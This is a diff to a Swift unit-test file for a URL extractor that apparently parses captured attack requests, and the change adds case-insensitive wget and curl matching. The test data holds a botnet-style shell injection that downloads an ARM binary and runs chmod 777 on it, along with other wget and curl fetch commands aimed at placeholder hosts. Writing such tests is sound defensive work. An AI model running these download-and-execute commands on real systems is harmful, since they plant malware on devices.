@@ -29,6 +29,10 @@ final class URLsAndClientsTests: XCTestCase {
     func testBareHostAfterWgetBecomesHTTP() throws {
         let found = try urls("GET /shell?cd+/tmp;+wget+-q+198.51.100.9/bins/arm7;chmod+777+arm7 HTTP/1.1\r\nHost: a\r\n\r\n")
         XCTAssertEqual(found.map(\.url), ["http://198.51.100.9/bins/arm7"])
+        // The tool's name in any case, as a word of its own; a longer word or a name at the text's end is not the tool.
+        XCTAssertEqual(URLExtractor.urls(in: "cd /tmp; WGet 192.0.2.1/a; Curl -s 192.0.2.2:81/b"),
+                       ["http://192.0.2.1/a", "http://192.0.2.2:81/b"])
+        XCTAssertEqual(URLExtractor.urls(in: "xwget 192.0.2.1/a; wgets 192.0.2.2/b; /usr/bin/wget 192.0.2.3/c; wget"), [])
     }
 
     func testRFITargetEndsAtTheNextParameter() throws {
